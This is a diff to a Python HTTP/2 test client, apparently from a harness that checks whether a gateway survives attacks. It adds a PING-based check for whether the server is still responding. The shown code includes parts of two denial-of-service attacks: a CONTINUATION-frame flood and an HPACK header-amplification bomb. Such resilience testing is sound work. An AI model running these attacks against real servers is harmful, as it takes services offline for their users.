@@ -33,6 +33,9 @@ BODY = b'{"data": {}}'
 JSON = {"content-type": "application/json"}
 HTTP_SECONDS = 2
 """For a head, and for a body, as the attacked gateway is told."""
+_STILL_THERE = b"the last"
+_ANSWER_SECONDS = 60
+"""More than a busy machine takes."""
 CONNECTIONS = 300
 """As many as the attacked gateway takes on its HTTP port."""
 
@@ -225,11 +228,15 @@ class Http2Client:
                 return frame
             data = data[9 + length :]
 
-    async def outcome(self, *, of_stream: bool = False) -> str:
-        """How the server has ended the connection, or a stream; `goes on` when it has not."""
-        with suppress(TimeoutError):
-            async with asyncio.timeout(1):
-                await (self._answered.wait() if of_stream else asyncio.shield(self._reading))
+    async def outcome(self) -> str:
+        """How the server has ended the connection; `goes on` when it still answers a PING."""
+        await self.send([PingFrame(0, opaque_data=_STILL_THERE)])
+        return await self.answer()
+
+    async def answer(self) -> str:
+        """What comes first: the status of the call, the connection's end, or the answer to `outcome`."""
+        async with asyncio.timeout(_ANSWER_SECONDS):
+            await self._answered.wait()
         return self.ended or "goes on"
 
     async def close(self) -> None:
@@ -256,6 +263,8 @@ class Http2Client:
             if status is not None:
                 self.ended = _NAMES[int(status)]
                 self._answered.set()
+        elif isinstance(event, h2.events.PingAckReceived) and event.ping_data == _STILL_THERE:
+            self._answered.set()
 
 
 @asynccontextmanager
@@ -338,7 +347,7 @@ async def endless_headers(target: Target) -> str:
             for _ in range(4096):
                 if not await client.send([ContinuationFrame(1, data=piece)]):
                     break
-        return await client.outcome()
+        return await client.answer()
 
 
 async def header_bomb(target: Target) -> str:
@@ -348,7 +357,7 @@ async def header_bomb(target: Target) -> str:
         async with http2(target) as client:
             bomb = Encoder().encode([("x-bomb", "b" * 3_900)], huffman=False) + b"\xbe" * 12_000
             await client.send([HeadersFrame(1, data=client.call().data + bomb, flags=["END_HEADERS"])])
-            outcomes.append(await client.outcome(of_stream=True))
+            outcomes.append(await client.answer())
     return _counted(outcomes)
 
 
